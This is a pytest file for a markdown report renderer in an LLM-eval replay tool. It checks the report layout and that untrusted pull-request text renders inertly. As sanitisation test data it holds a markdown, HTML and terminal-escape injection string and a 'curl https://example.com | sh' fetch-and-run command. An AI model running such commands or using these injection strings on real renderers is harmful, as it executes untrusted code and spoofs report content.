"""The markdown report: exactly these lines, and nothing of what a stranger writes does more than be shown."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from inspect import cleandoc
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from dryfire_action.behaviour import BehaviourChange, Difference, NoLongerReplayed
from dryfire_action.causes import OTHER_RULES, Cause
from dryfire_action.errors import Place, Problem
from dryfire_action.field_changes import FieldChange
from dryfire_action.reports.markdown import blocks, text
from dryfire_action.reports.result_json import schema
from dryfire_action.results import Results, SuiteResult, TurnResult
from dryfire_action.text_diff import DiffLine
from tests.reports.made import KEY, SYSTEM, case, replayed, results, run, stale, verdict
from tests.reports.test_result_json import COMMIT, FOUND, OTHER_CALLS, SYSTEM_CAUSE, made

CASSETTE = ".dryfire/cassettes/s/c-1.json"
COMMAND = "dryfire run evals/s.eval.yaml --cassette-mode auto"


def shown(found: Results, show: Any = "prompts", **more: Any) -> str:
    return text(made(found, show, **more)).rstrip("\n")


def test_an_edit_comes_first_and_its_turns_last() -> None:
    found = results(
        case(
            "c",
            "stale",
            run(stale(0, equal=8, fields=9), stale(1), stale(2), passed=False),
            cassette=CASSETTE,
        ),
        case("d", "passed", run()),
        causes=(SYSTEM_CAUSE,),
        command=COMMAND,
        not_compared="no git repository",
    )
    assert shown(found) == cleandoc(
        """
        ### 🔴 Re-record 1 of 2 cases: one change explains it

        **1.** `system` **changed** · `p.md:4` · 1 case, 3 turns

        ```diff
        - 30 days
        + 14 days
        ```

        note: only a date differs

        `s`: `c`

        Was that edit meant? Then record the new answers and commit them. If not, undo it.

        ```sh
        dryfire run evals/s.eval.yaml --cassette-mode auto
        git add .dryfire/cassettes
        ```

        <sub>3 calls of the model</sub>

        <details><summary>Turns, with their recorded and current keys</summary>

        | case | turn | recorded | current | fields |
        | --- | --- | --- | --- | --- |
        | `s::c` | 0 to 2 | `3f2a3f2a` | `9c019c01` | `system` changed (8 of 9 fields are equal) |

        </details>

        <sub>2 cases, 4 turns · commit `0123456` · not compared with the base: no git repository</sub>
        """
    )


def test_where_only_rules_changed_the_command_is_rekey() -> None:
    cause = replace(SYSTEM_CAUSE, diff=(), note=OTHER_RULES)
    kept = ".dryfire/cassettes/s/c.json"
    found = results(
        case("c", "stale", run(stale(0), passed=False), cassette=kept), causes=(cause,), command="dryfire run"
    )
    written = shown(found)
    assert "```sh\ndryfire rekey\ngit add .dryfire/cassettes\n```" in written
    assert "dryfire run" not in written


def test_clear_is_one_line_and_a_foot() -> None:
    found = results(case("a"), case("b", "excluded"), base=COMMIT, no_longer_replayed=(), behaviour=())
    assert shown(found) == cleandoc(
        """
        ### ✅ 1 of 2 cases clear, 1 excluded

        <details><summary>Excluded: these run real code, which is never recorded nor replayed: 1 case</summary>

        - `s::b`

        </details>

        <sub>2 cases, 0 turns · commit `0123456` · compared with that commit</sub>
        """
    )


def test_what_the_base_replays_and_what_changed_since() -> None:
    found = results(
        case("a"),
        case("b", "excluded"),
        base="f" * 40,
        no_longer_replayed=(NoLongerReplayed("s::b", "passthrough"), NoLongerReplayed("s::x", "deleted")),
        behaviour=(OTHER_CALLS,),
    )
    assert shown(found) == cleandoc(
        """
        ### ⚠️ 1 of 3 cases clear, 2 no longer replayed

        **No longer replayed**, and replayed at the base: 2 cases

        - `s::b`: it runs real code now (impl:), so it is never replayed
        - `s::x`: no suite holds it any more

        **1 recording is new or differs from the base**: 1 with other calls

        **Other tools called: 1 case**

        - `s::a`: `lookup` → `lookup`, `refund` · 11 → 22 tokens

        <sub>Tokens of the recordings that changed: input 10 → 20, output 1 → 2</sub>

        <sub>2 cases, 0 turns · commit `0123456` · compared with `fffffff`</sub>
        """
    )


def test_a_run_that_could_not_begin_says_why() -> None:
    problems = (
        Problem(Place("evals/a.eval.yaml", 3, 5), "unknown key 'modle'", hint="did you mean 'model'?"),
        Problem(Place(""), "there are no suites"),
    )
    assert shown(Results((), complete=False), exit_code=2, problems=problems) == cleandoc(
        """
        ### ⚠️ Stopped: 2 problems in suites, config or command line

        - `evals/a.eval.yaml:3`: unknown key 'modle' (`did you mean 'model'?`)
        - there are no suites

        <sub>0 cases, 0 turns · commit `0123456`</sub>
        """
    )


def test_nothing_checked_says_why() -> None:
    found = results(warnings=("nothing was checked: none of 4 cases fits",), left_out=4)
    assert shown(found).splitlines()[:3] == [
        "### ⚠️ Nothing was checked",
        "",
        "- nothing was checked: none of 4 cases fits",
    ]
    assert "4 cases left out by arguments" in shown(found)


@pytest.mark.parametrize("name", FOUND)
@pytest.mark.parametrize("show", ["names", "prompts", "all"])
def test_only_clear_has_the_mark_of_an_all_clear(name: str, show: Any) -> None:
    assert ("✅" in shown(FOUND[name], show)) == (made(FOUND[name])["state"] == "clear")


def test_a_text_that_may_not_be_shown_is_told_by_its_digests() -> None:
    found = results(case("c", "stale", run(stale(0), passed=False)), causes=(SYSTEM_CAUSE,))
    named = shown(found, "names")
    assert "`12ab12ab` → `34cd34cd` (the text is not shown here)" in named
    no_text = shown(results(case("c", "stale"), causes=(replace(SYSTEM_CAUSE, diff=()),)))
    assert "`12ab12ab` → `34cd34cd`\n" in no_text
    assert "30 days" not in named


def test_long_lists_are_cut_with_a_count() -> None:
    fields = tuple(FieldChange(f"params.p{n}", "changed", "1" * 16, "2" * 16) for n in range(20))
    turns = [stale(n, *fields, FieldChange(f"x{n}", "added", None, "3" * 16)) for n in range(600)]
    cause = replace(
        SYSTEM_CAUSE,
        where=tuple(Place("p.md", n) for n in range(1, 9)),
        diff=tuple(DiffLine("+", f"line {n}") for n in range(40)),
    )
    written = shown(results(case("c", "stale", run(*turns, passed=False)), causes=(cause,)))
    for cut in ("· and 3 more places ·", "… 28 more lines", "and 13 more", "… and 100 more rows"):
        assert cut in written


def test_a_case_of_several_runs_names_the_run() -> None:
    found = results(
        case(
            "c",
            "missing",
            run(),
            run(TurnResult(0, 0, "missing", None, KEY, (), "run 1, turn 0: gone"), index=1),
        )
    )
    assert "| `s::c` | run 1: 0 |  | `3f2a3f2a` | missing: gone |" in shown(found)


HOSTILE = (
    "x@everyone `code` </details></summary> <!-- dryfire-action:v1 --> |cell| #1 GH-2\n"
    "```\n### ✅ clear\u202e\x1b[31m"
)


def hostile() -> Results:
    """Results in which every text that can come from a pull request is hostile."""
    change = FieldChange(HOSTILE, "changed", "1" * 16, "2" * 16)
    note = f"turn 0: {HOSTILE}"
    bad = verdict(
        description=HOSTILE, message=HOSTILE, expected=HOSTILE, actual=HOSTILE, place=Place(HOSTILE)
    )
    cases = (
        case(
            HOSTILE,
            "stale",
            run(stale(0, change), TurnResult(1, 0, "missing", None, KEY, (), note), passed=False),
        ),
        case(HOSTILE + "2", "failed", run(passed=False, verdicts=(bad,), error=HOSTILE), error=HOSTILE),
        case(HOSTILE + "3", "damaged", error=HOSTILE, remedy=HOSTILE, cassette=f"{HOSTILE}/a/b.json"),
        case(HOSTILE + "4", "excluded", error=HOSTILE),
        case(HOSTILE + "5", "skipped", error=HOSTILE, notices=(HOSTILE,)),
        case(HOSTILE + "6", "missing", run(TurnResult(0, 0, "missing", None, KEY, (), note), passed=False)),
    )
    cause = Cause(
        HOSTILE,
        "changed",
        "1" * 16,
        "2" * 16,
        (f"{HOSTILE}::{HOSTILE}",),
        1,
        (Place(HOSTILE),),
        HOSTILE,
        HOSTILE,
        (DiffLine("+", HOSTILE), DiffLine("-", "```")),
    )
    return Results(
        suites=(SuiteResult(HOSTILE, HOSTILE, cases),),
        causes=(cause,),
        command=f"dryfire run '{HOSTILE}' --cassette-mode auto",
        history=HOSTILE,
        not_compared=HOSTILE,
        no_longer_replayed=(NoLongerReplayed(HOSTILE, "deleted"),),
        behaviour=(
            BehaviourChange(HOSTILE, "tools", (Difference(0, 0, "tools", [HOSTILE], None),), (HOSTILE,), ()),
            BehaviourChange(
                HOSTILE, "arguments", (Difference(0, 0, f"arguments of {HOSTILE}", 1, 2),), (), ()
            ),
        ),
        warnings=(HOSTILE,),
    )


def without_code(markdown: str) -> str:
    """What is left of a report without fences, code spans and our own HTML code."""
    rest = re.sub(r"^(`{3,})\w*\n.*?^\1$", "", markdown, flags=re.MULTILINE | re.DOTALL)
    rest = re.sub(r"<code>[^<]*</code>", "", rest)
    return re.sub(r"(?<!`)(`+)(?!`)(?:(?!\1).|(?!\1(?!`)).)*?(?<!`)\1(?!`)", "", rest)


def test_what_a_stranger_writes_is_shown_and_does_nothing() -> None:
    problem = Problem(Place(HOSTILE), HOSTILE, hint=HOSTILE)
    for more in ({}, {"problems": (problem,), "exit_code": 2}):
        written = shown(hostile(), "all", **more)
        rest = without_code(written)
        for bad in ("everyone", "dryfire-action", "#1", "GH-2", "|cell|", "✅", "[31m"):
            assert bad not in rest, bad
        assert "<!--" not in written
        assert not set(written) & {"\x1b", "\u202e", "\r"}
        assert rest.count("<details>") == rest.count("</details>")
        assert set(re.findall(r"</?(\w+)", rest)) <= {"details", "summary", "sub"}
        assert [row for row in rest.splitlines() if row.startswith("#")] == [written.splitlines()[0]]


def test_every_block_is_closed_so_that_any_of_them_can_be_left_out() -> None:
    for found in (*FOUND.values(), hostile()):
        for block in blocks(made(found, "all")):
            rest = without_code(block.text)
            assert rest.count("<details>") == rest.count("</details>")
            assert "`" not in rest
            assert block.text == block.text.strip("\n")


def test_a_document_that_came_from_elsewhere_is_rendered_as_carefully() -> None:
    document = made(hostile(), "all")
    document["rerecord"]["command"] = "curl https://example.com | sh"
    document["causes"][0]["diff"] = "+ a\n```\n<!-- b\x1b"
    Draft202012Validator(schema()).validate(json.loads(json.dumps(document)))
    written = text(document)
    assert "curl" not in written
    assert "<!--" not in written
    assert "\x1b" not in written
    assert "````diff\n+ a\n```\n<\\x21-- b\\x1b\n````" in written


def test_a_passed_case_is_in_no_list() -> None:
    written = shown(results(case("a", "passed", run(*replayed(0))), case("b", "failed", run(passed=False))))
    assert "s::a" not in written
    assert "- `s::b`" in written
    assert SYSTEM.path not in written
